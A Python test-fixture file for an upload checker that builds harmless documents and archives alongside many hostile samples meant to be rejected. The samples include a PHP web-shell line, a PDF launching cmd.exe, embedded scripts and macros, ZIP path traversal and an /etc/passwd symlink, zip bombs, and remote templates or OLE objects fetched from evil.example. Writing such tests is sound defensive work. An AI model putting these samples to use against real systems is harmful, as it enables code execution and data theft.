"""Documents of each kind that are taken, and what an uploader might try."""

import io
import struct
import zipfile

import pikepdf

from tests.news.library.documents.samples import (
    ADDRESS,
    END_OF_CHAIN,
    FORM,
    JUMP,
    OFFICE,
    PACKAGE,
    SCRIPT,
    URI,
    acting,
    action,
    atom,
    compound,
    doc,
    docx,
    ofd,
    opening,
    package,
    package_files,
    packed,
    patched,
    pdf,
    ppt,
    record,
    relations,
    saved,
    slides,
    stream,
    word,
    workbook,
    xls,
    zipped,
)
from tests.news.library.pictures.samples import HTML, SVG, jpeg, png

# What may pass: name -> data.
GOOD: dict[str, bytes] = {
    "a.pdf": pdf(),
    "form.pdf": pdf(FORM, b"<< /Type /Outlines /First 4 0 R /Last 4 0 R /Count 1 >>"),
    "packed.pdf": packed(pdf(FORM)),
    "of a wrong length.pdf": pdf(stream(b"x").replace(b"/Length 1", b"/Length 9")),
    "opened at a place.pdf": opening(b"[3 0 R /XYZ 0 0 null]"),
    "opened at a page.pdf": opening(b"4 0 R", JUMP % b"/Next 5 0 R ", JUMP % b"/Next [4 0 R]"),
    "opened at a name.pdf": opening(b"/Chapter1"),
    "opened at no place.pdf": opening(b"99 0 R"),
    "jumps.pdf": acting(b"<< /O 5 0 R >>", JUMP % b""),
    "font of that name.pdf": pdf(
        b"<< /Font << /AA << /FontDescriptor << /Type /FontDescriptor >> >> /EF << >> >> >>"
    ),
    "link.pdf": pdf(b"<< /Type /Annot /Subtype /Link /A %s >>" % ADDRESS),
    "chance.pdf": pdf(stream(b"\x00 /JS /JavaScript \x01")),
    "a.doc": doc(),
    "a.docx": docx(),
    "a.xls": xls(),
    "excel 95.xls": xls(stream="Book"),
    "a.xlsx": package("xlsx"),
    "a.ppt": ppt(),
    "a.pptx": package("pptx"),
    "equation.docx": docx(
        files={"word/embeddings/oleObject1.bin": compound({"Equation Native": bytes(50)})}
    ),
    "chart.docx": docx(files={"word/embeddings/data.xlsx": package("xlsx")}),
    "picture.docx": docx(files={"word/media/a.png": png(), "word/media/a.svg": SVG}),
    "template.docx": docx(
        files={
            "word/_rels/settings.xml.rels": relations(
                "attachedTemplate", "file:///C:\\Templates\\a.dotx", "External"
            )
        }
    ),
    "link.docx": docx(
        files={
            "word/_rels/document.xml.rels": relations(
                "hyperlink", "https://example.org/", "External"
            )
        }
    ),
    "a.ofd": ofd(),
    "link.ofd": ofd(action("CLICK", URI) + action("DO", "<ofd:Goto><ofd:Dest/></ofd:Goto>")),
    "with an invoice.ofd": ofd(invoice__xml=b"<invoice/>"),
    "with an ofd.zip": zipped({"a.ofd": ofd()}),
    "a.zip": zipped(
        {
            "表/通知.pdf": pdf(),
            "表/申请表.docx": docx(),
            "a.xls": xls(),
            "photo.JPG": jpeg(),
            "plan.dwg": b"AC1032" + bytes(20),
            "说明.txt": "请先阅读".encode("gb18030"),
            "empty folder/": b"",
        }
    ),
    "stored.zip": zipped({"a.pdf": pdf()}, zipfile.ZIP_STORED),
    "of a mac.zip": zipped(
        {
            "a.pdf": pdf(),
            "__MACOSX/._a.pdf": b"\x00\x05\x16\x07" + bytes(30),
            ".DS_Store": b"\x00\x00\x00\x01Bud1" + bytes(30),
        }
    ),
    "commented.zip": zipped({"a.pdf": pdf()}, comment="附件".encode()),
}


def _streamed_zip() -> bytes:
    """As written to where nobody can seek: sizes follow each file's data."""

    class Pipe(io.RawIOBase):
        def __init__(self):
            self.data = b""

        def writable(self):
            return True

        def write(self, data):
            self.data += bytes(data)
            return len(data)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", "one")
        archive.writestr("b.txt", "two")
    return pipe.data


def _gbk_zip() -> bytes:
    name = "通知附件一.txt".encode("gb18030")
    return patched(zipped({"x" * len(name): b"text"}), b"x" * len(name), name)


GOOD["streamed.zip"] = _streamed_zip()
GOOD["gbk.zip"] = _gbk_zip()


def _unnamed_file() -> bytes:
    """Two files, of which the ZIP's directory names the first alone."""
    whole = zipped({"a.txt": b"text", "hidden.exe": MACHINE})
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        start = archive.start_dir
    second = whole.index(b"PK\x01\x02", start + 4)
    end = whole.index(b"PK\x05\x06", second)
    tail = bytearray(whole[end:])
    struct.pack_into("<HHI", tail, 8, 1, 1, second - start)
    return whole[:second] + bytes(tail)


def _zip_with(name: str, data: bytes = b"x", **attributes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        entry = zipfile.ZipInfo(name)
        for attribute, value in attributes.items():
            setattr(entry, attribute, value)
        archive.writestr(entry, data)
        archive.writestr("other.txt", "text")
    return buffer.getvalue()


def _twice() -> bytes:
    return patched(zipped({"a.txt": b"1", "b.txt": b"2"}), b"b.txt", b"A.txt")


def _lying() -> bytes:
    """Claims 10 bytes where there are a thousand."""
    return patched(zipped({"a.txt": bytes(1000)}), struct.pack("<L", 1000), struct.pack("<L", 10))


def _types(content: bytes) -> bytes:
    return docx(files={"[Content_Types].xml": content})


def _related(kind: str, target: str) -> bytes:
    return docx(files={"word/_rels/document.xml.rels": relations(kind, target, "External")})


def _without(part: str) -> bytes:
    return zipped({name: data for name, data in package_files().items() if name != part})


_TYPES = package_files()["[Content_Types].xml"]
_TEXT = zipped({"a.txt": b"x"})
_VBA = compound({"VBA/dir": b"x", "PROJECT": b"y"})
_VBA_TYPE = (
    '<Override PartName="/word/harmless.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)
_MACRO_SHEET = (
    '<Override PartName="/xl/macrosheets/a.xml" '
    'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
)
_MACRO_TYPE = "application/vnd.ms-{}.macroEnabled.main+xml"
_TEMPLATE = f"{OFFICE}wordprocessingml.template.main+xml"
_ENTITY = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
_ELSEWHERE = [rb"\\\\host\\a.pdf", b"//host/a.pdf", b"file:///etc/passwd", b" FILE://host/a"]
MACHINE = b"MZ\x90\x00" + bytes(200)

# What an uploader might try: (a file's extension, a word of the answer) -> {what it is: data}.
_BAD: dict[tuple[str, str], dict[str, bytes]] = {
    ("pdf", "not a document"): {"text": b"just some text", "picture": png()},
    ("pdf", "web page"): {"html": HTML, "svg": SVG, "php": b"<?php system($_GET['c']);"},
    ("doc", "web page"): {
        "html": b"\r\n <HTML><body><table></table>",
        "html in utf-16": HTML.decode().encode("utf-16"),
        "rich text": b"{\\rtf1 x}",
    },
    ("pdf", "program"): {
        "program": MACHINE,
        "linux program": b"\x7fELF" + bytes(60),
        "shell script": b"#!/bin/sh\nid\n",
        "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
        "behind a program": MACHINE + pdf(),
    },
    ("zip", "not a document"): {
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
    },
    # Names
    ("doc", "does not end in .pdf"): {"pdf": pdf()},
    ("pdf.exe", "does not end in .pdf"): {"pdf": pdf()},
    ("\u202efdp.exe", "does not end in .pdf"): {"pdf of a turned direction": pdf()},
    ("html", "does not end in .pdf"): {"pdf": pdf()},
    ("pdf", "does not end in .docx"): {"docx": docx()},
    ("docx", "does not end in .xlsx"): {"xlsx": package("xlsx")},
    ("docx", "does not end in .zip"): {"zip": _TEXT},
    ("ofd", "does not end in .zip"): {"zip": _TEXT},
    ("zip", "does not end in .docx"): {"docx": docx()},
    ("zip", "does not end in .ofd"): {"ofd": ofd()},
    ("xls", "does not end in .doc"): {"doc": doc()},
    # PDF
    ("pdf", "before, behind"): {
        "behind html": HTML + pdf(),
        "behind a line end": b"\n" + pdf(),
        "behind a script's comment": b"/*" + pdf() + b"*/alert(1)",
        "with html behind": pdf() + HTML,
        "with zip behind": pdf() + _TEXT,
    },
    ("pdf", "damaged"): {
        "half": pdf()[:200],
        "without its last line": pdf(end=b""),
        "first line": b"%PDF-1.7\n",
    },
    ("pdf", "cannot be checked"): {
        "whose table is elsewhere": pdf().replace(b"startxref\n", b"startxref\n9999"),
        "with an object of another number": pdf(b"null").replace(b"4 0 obj", b"9 0 obj"),
        "with an object that does not end": pdf(b"<< /S /JavaScript /JS (x)"),
        "with two values for a key": pdf(b"<< /S /GoTo /S /Named >>"),
        "with a broken object stream": packed(pdf(FORM)).replace(b"/N ", b"/X "),
    },
    ("pdf", "protected"): {
        "encrypted": saved(pdf(), encryption=pikepdf.Encryption(owner="a", user="b")),
        "restricted": saved(pdf(), encryption=pikepdf.Encryption(owner="a", user="")),
    },
    ("pdf", "script"): {
        "with a script": pdf(SCRIPT),
        "with a script in a page": pdf(b"[<< /A [ %s ] >>]" % SCRIPT),
        "with a script of a stream": pdf(stream(b"x", b"/A " + SCRIPT)),
        "with an escaped script": pdf(b"<< /S /J#61va#53cript /J#53 (x) >>"),
        "with only /JS": pdf(b"<< /S /X /JS (x) >>"),
        "with a packed script": packed(pdf(SCRIPT)),
        "with a script by its name alone": opening(b"null", b"/JavaScript"),
        "that starts a program": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        "with a file": pdf(b"<< /Type /EmbeddedFile >>"),
        "with a file of no type": pdf(b"<< /Type /Filespec /EF << /F 3 0 R >> >>"),
        "with a file to click": pdf(b"<< /Subtype /FileAttachment >>"),
        "with a list of files": pdf(b"<< /EmbeddedFiles 3 0 R >>"),
        "with a film": pdf(b"<< /Subtype /RichMedia >>"),
        "with a film of another kind": pdf(b"<< /S /Rendition >>"),
        "with a form of another kind": pdf(b"<< /XFA [] >>"),
        "with steps of a show": pdf(b"<< /PresSteps 3 0 R >>"),
    },
    ("pdf", "opens an address"): {
        "that opens one": opening(ADDRESS),
        "that opens one by another object": opening(b"4 0 R", ADDRESS),
        "that opens one, packed": packed(opening(b"4 0 R", ADDRESS)),
        "that opens one behind a comment": opening(b"%<<\n4%\n0 %\rR", ADDRESS),
        "that opens one, escaped": pdf(catalog=b"/#4fpen#41ction<</S/#55RI/URI(http://x)>>"),
        "that opens one after jumping": opening(JUMP % (b"/Next " + ADDRESS)),
        "that opens one after jumping twice": opening(
            JUMP % b"/Next 4 0 R ", b"[ 5 0 R 6 0 R ]", JUMP % b"", ADDRESS
        ),
        "that names its kind elsewhere": opening(b"<< /S 4 0 R /URI (http://x) >>", b"/URI"),
        "that names no kind": opening(b"<< /URI (http://x) >>"),
        "that prints by itself": opening(b"<< /S /Named /N /Print >>"),
        "that opens one with a page": acting(b"<< /O %s >>" % ADDRESS),
        "that opens one with a page, packed": packed(acting(b"<< /PV %s >>" % ADDRESS)),
        "that opens one with a page, by objects": acting(b"5 0 R", b"<< /C 6 0 R >>", ADDRESS),
        "that sends a form": pdf(b"<< /A << /S /SubmitForm /F (https://example.org/) >> >>"),
        "that imports data": pdf(b"<< /S /ImportData /F (x.fdf) >>"),
        "that opens another": pdf(b"<< /S /GoToR /F (x) >>"),
        "that opens another inside": pdf(b"<< /S /GoToE >>"),
        **{f"with a link to {p!r}": pdf(b"<< /S /URI /URI (%s) >>" % p) for p in _ELSEWHERE},
        **{f"with a part of {p!r}": pdf(b"<< /S /Thread /F (%s) >>" % p) for p in _ELSEWHERE},
        # As most programs write a file's name.
        "with a share in utf-16": pdf(b"<< /UF <FEFF005C005C0068005C0061> >>"),
        "with a file in utf-16": pdf(b"<< /S /URI /URI <FEFF00660069006C0065003A002F002F> >>"),
    },
    # ZIP
    ("zip", "before, behind"): {
        "behind a picture": png() + _TEXT,
        "behind html": HTML + _TEXT,
        "with html behind": _TEXT + HTML,
        "with pdf behind": _TEXT + pdf(),
        "behind another": _TEXT + _TEXT,
        "with html in the comment": zipped({"a.txt": b"text"}, comment=HTML),
        "with a file that it does not name": _unnamed_file(),
        "with data in a folder": _zip_with("folder/", b"data"),
    },
    ("zip", "damaged"): {
        "half": GOOD["a.zip"][: len(GOOD["a.zip"]) // 2],
        "of a wrong checksum": patched(
            zipped({"a.txt": bytes(5000) + b"text"}, zipfile.ZIP_STORED), b"text", b"tort"
        ),
        "of two names for a file": _TEXT.replace(b"a.txt", b"a.exe", 1),
        "that lies": _lying(),
    },
    ("zip", "holds no files"): {"empty": zipped({}), "of a folder": zipped({"a/": b""})},
    ("zip", "protected"): {
        "encrypted": patched(
            _TEXT, b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
        )
    },
    ("zip", "unusual"): {
        "of bzip2": zipped({"a.txt": b"x"}, zipfile.ZIP_BZIP2),
        "of one name twice": _twice(),
    },
    ("zip", "far more data"): {
        "of too many files": zipped({f"{number}.txt": b"" for number in range(10_001)}),
        "of too much": patched(_TEXT, struct.pack("<LH", 1, 5), struct.pack("<LH", 1 << 30, 5)),
    },
    ("zip", "is an archive itself"): {
        "in a zip": zipped({"in.zip": _TEXT}),
        "in a zip by another name": zipped({"in.jpg": _TEXT}),
    },
    ("zip", "wrong place"): {
        **{
            f"with {name!r}": _zip_with(name)
            for name in "../a.txt ..\\a.txt a/../../b.txt /etc/a.txt C:/a.txt a.exe:b.txt".split()
        },
        "with a line end in a name": _zip_with("a\nb.txt"),
        "with a link": _zip_with(
            "a.txt", b"/etc/passwd", create_system=3, external_attr=0o120777 << 16
        ),
    },
    **{
        ("zip", f"“{name}” in this ZIP"): {"of what is not wanted": zipped({name: data})}
        for name, data in {
            "setup.exe": MACHINE,
            "a.txt": MACHINE,
            "a.pdf.exe": MACHINE,
            "__MACOSX/._a": MACHINE,
            "a.js": b"alert(1)",
            "index.html": HTML,
            "b.txt": HTML,
            "a.png": HTML,
            "META-INF/MANIFEST.MF": b"Main-Class: a",
            "a.pdf": pdf(SCRIPT),
            "empty.docx": b"",
        }.items()
    },
    ("zip", "macros"): {"with macros": zipped({"a.docx": docx(files={"word/vba.bin": _VBA})})},
    ("zip", "does not end in .pdf"): {"with a wrong name": zipped({"a.doc": pdf()})},
    # Office Open XML
    ("docx", "damaged"): {
        "half": docx()[:300],
        "without its main part": _without("word/document.xml"),
        "without relations": _without("_rels/.rels"),
        "of two main types": docx(
            types='<Override PartName="/word/document.xml" ContentType="text/xml"/>'
        ),
        "of types that are cut off": _types(_TYPES[:-8]),
        "of nonsense types": _types(b"<a"),
        "with a document type": _types(_TYPES.replace(b"<Types", b"<!DOCTYPE Types><Types")),
        "of growing types": _types(_ENTITY.encode()),
        "of growing types in utf-16": _types(_ENTITY.encode("utf-16")),
        **{
            f"of types in {name}": _types(f"<?xml version='1.0' encoding='{name}'?><a/>".encode())
            for name in ("UTEl8", "gb18030", "utf-7", "rot13", "zlib", "undefined")
        },
    },
    ("docx", "far more data"): {
        "four times in itself": docx(
            files={"a": docx(files={"a": docx(files={"a": docx()})})},
        )
    },
    ("docx", "macros"): {
        "named so": docx(main_type=_MACRO_TYPE.format("word.document")),
        "with macros": docx(files={"word/vbaProject.bin": _VBA}),
        "with macros by another name": docx(files={"word/harmless.bin": _VBA}),
        "with declared macros": docx(files={"word/harmless.bin": b"x"}, types=_VBA_TYPE),
        "with what belongs to macros": docx(files={"word/vbaData.xml": b"<a/>"}),
    },
    ("xlsx", "Save it as XLSX"): {
        "xlsm": package("xlsx", main_type=_MACRO_TYPE.format("excel.sheet")),
        "with a macro sheet": package("xlsx", types=_MACRO_SHEET),
    },
    ("pptx", "Save it as PPTX"): {
        "pptm": package("pptx", main_type=_MACRO_TYPE.format("powerpoint.presentation"))
    },
    ("docx", "template"): {"dotx": docx(main_type=_TEMPLATE)},
    ("docx", "packed into it"): {
        "with a zip": docx(files={"word/embeddings/a.docx": _TEXT}),
        "with another archive": docx(files={"word/media/a.png": b"Rar!\x1a\x07\x00"}),
        "with a program": docx(files={"word/media/a.png": MACHINE}),
        "with a page": docx(files={"word/afchunk.htm": HTML}),
        "with a pdf": docx(files={"word/embeddings/a.bin": pdf()}),
        "with a packed file": docx(
            files={"word/a.bin": compound({"Object/\x01Ole10Native": b"x"}, class_id=PACKAGE)}
        ),
    },
    ("docx", "another place"): {
        "with a template": _related("attachedTemplate", "https://evil.example/a.dotm"),
        "with an object": _related("oleObject", "mhtml:https://evil.example/x!x-usc:x"),
        "with a share's object": _related("oleObject", "file://evil.example/share"),
    },
    ("docx", "protected"): {
        "encrypted": compound({"EncryptionInfo": b"x", "EncryptedPackage": bytes(5000)})
    },
    # OFD
    ("ofd", "packed into it"): {
        "with a program": ofd(a__dat=MACHINE),
        "with a script": ofd(a__js=b"alert(1)"),
        "with a page": ofd(a__xml=HTML),
        "with an archive": ofd(a__dat=_TEXT),
        "with a pdf": ofd(a__pdf=pdf()),
        "with an office file": ofd(a__dat=doc()),
        "with a document type": ofd(a__xml=b"<!DOCTYPE a><a/>"),
    },
    ("ofd", "protected"): {"encrypted": ofd(Encryptions__xml=b"<a/>")},
    ("ofd", "damaged"): {
        "of broken pages": ofd(a__xml=b"<a"),
        "of a lost document": ofd(root="Doc_1/Document.xml"),
        "of no document": zipped({"OFD.xml": b"<OFD/>"}),
    },
    ("ofd", "another place"): {
        "of a document": ofd(root="https://evil.example/d.xml"),
        "with a part on a share": ofd("<ofd:PublicRes>\\\\host\\res.xml</ofd:PublicRes>"),
        "with a page": ofd('<ofd:Page BaseLoc="//evil.example/Content.xml"/>'),
    },
    ("ofd", "by itself"): {
        "that opens an address": ofd(action("DO", URI)),
        "whose page plays": ofd(action("PO", '<ofd:Sound ResourceID="1"/>')),
    },
    ("ofd", "before, behind"): {"with html behind": ofd() + HTML},
    # Compound files
    ("doc", "protected"): {"encrypted": compound({"WordDocument": word(0x0100)})},
    ("xls", "protected"): {
        "encrypted": xls(record(0x2F, bytes(6))),
        "encrypted by Excel 95": xls(record(0x2F, bytes(4)), stream="Book"),
    },
    ("ppt", "protected"): {"encrypted": ppt(is_encrypted=True)},
    ("doc", "macros"): {"with macros": doc(**{"Macros/dir": b"x"})},
    ("xls", "macros"): {
        "with macros": compound({"Workbook": workbook(), "_VBA_PROJECT_CUR/dir": b"x"}),
        "with a macro sheet": xls(sheet=1),
    },
    ("ppt", "macros"): {"with macros": ppt(has_macros=True)},
    ("doc", "packed into it"): {
        "with a packed file": compound(
            {"WordDocument": word(), "ObjectPool/x": b"x"}, class_id=PACKAGE
        )
    },
    ("doc", "not a document"): {
        "installer": compound({"Property": bytes(5000)}),
        "deep inside something else": compound({"Object/WordDocument": word()}),
        "whose main stream is a storage": compound({"WordDocument/a": word()}),
    },
    ("doc", "before, behind"): {
        "and xls in one": compound({"WordDocument": word(), "Workbook": workbook()})
    },
    ("doc", "damaged"): {
        "half": doc()[: len(doc()) // 2],
        "first sector": doc()[:512],
        "with a cut stream": patched(
            doc(**{"1Table": bytes(9000)}),
            struct.pack("<LLL", 3, 4, END_OF_CHAIN),
            struct.pack("<LLL", END_OF_CHAIN, 4, END_OF_CHAIN),
        ),
        "without a directory": patched(doc(), doc()[48:52], b"\xff\x00\x00\x00"),
    },
    ("xls", "damaged"): {
        "with sheets that never end": compound({"Workbook": workbook()[:20]}),
        "with sheets that do not begin": compound({"Workbook": record(0x85, bytes(8))}),
    },
    ("ppt", "damaged"): {
        "without a user": compound({"PowerPoint Document": slides()}),
        "with a slide that is cut off": compound(
            {"PowerPoint Document": atom(1006, bytes(9000))[:6000], "Current User": b""}
        ),
    },
}
# What it is -> (data, its name, a word of the answer).
TRICKS = {
    f"{extension} {what}": (data, f"a.{extension}", word)
    for (extension, word), cases in _BAD.items()
    for what, data in cases.items()
}
# One of each kind, and a few refusals, for what stands above the inspection.
ONE_EACH = {name: data for name, data in GOOD.items() if name.startswith("a.")}
SOME_TRICKS = [
    "pdf html",
    "pdf with a script",
    "docx named so",
    "zip of too many files",
    "html pdf",
    "doc encrypted",
]
